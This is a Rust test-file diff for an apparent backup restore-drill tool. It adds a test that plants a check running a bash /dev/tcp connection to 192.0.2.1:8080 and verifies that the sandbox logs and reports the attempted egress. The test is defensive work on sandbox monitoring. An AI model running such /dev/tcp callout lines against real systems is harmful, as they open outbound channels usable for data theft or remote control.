@@ -7,7 +7,7 @@ use std::time::Duration;
 
 use lifeboat::drill::sandbox::processes::working_in;
 
-use crate::common::wait_until;
+use crate::common::{skip, wait_until};
 use crate::drill::Site;
 
 const PATIENCE: Duration = Duration::from_secs(60);
@@ -108,4 +108,45 @@ fn the_next_drill_cleans_up_and_a_living_one_is_left_alone() {
     let shown = site.estate.run(&["evidence", "show"]).ok().stdout;
     assert_eq!(shown.matches("not completed").count(), 1, "{shown}");
     assert!(shown.contains(&dead));
+}
+
+/// A program on the restored copy that calls out, and stays.
+const CALLER: &str = "
+[[check]]
+id = \"E1\"
+title = \"It calls out\"
+severity = \"info\"
+database = \"cluster\"
+command = { run = [\"/bin/bash\", \"-c\", \"exec 3<>/dev/tcp/192.0.2.1/8080; echo ping >&3; sleep 600\"] }
+why = \"Somebody wrote it.\"
+[[check]]
+id = \"T1\"";
+
+#[test]
+fn a_killed_drill_tells_what_its_copy_tried_to_reach() {
+    let site = Site::new(|cluster| cluster);
+    site.back_up();
+    site.estate.reconfigure("\n[[check]]\nid = \"T1\"", CALLER);
+    let drills = site.estate.scratch.join("drills");
+    let reports = site.reports().display().to_string();
+    let mut running = site.estate.spawn(&["drill", "run", "--report", &reports]);
+    let mut called = false;
+    wait_until("the copy calls out", PATIENCE, || {
+        let log = journal(&drills).map(|journal| journal.with_extension("").join("egress/egress.jsonl"));
+        called = log.is_some_and(|log| fs::read_to_string(log).is_ok_and(|text| text.contains("192.0.2.1")));
+        called || !running.is_running()
+    });
+    if !called {
+        skip!("the sandbox is not sealed here, and nobody listens outside of a seal")
+    }
+    running.kill9();
+    let reaped = site.estate.lifeboat.run(&["--format", "json", "drill", "reap"]).ok().json();
+    let sequence = reaped["reaped"][0]["ledger"]["sequence"].to_string();
+    let entry = site.estate.run(&["evidence", "show", "--sequence", &sequence]).ok().stdout;
+    assert!(
+        entry.contains("\"verdict\": \"not_completed\"") || entry.contains("\"verdict\":\"not_completed\""),
+        "{entry}"
+    );
+    assert!(entry.contains("192.0.2.1") && entry.contains("8080"), "{entry}");
+    site.assert_clean();
 }
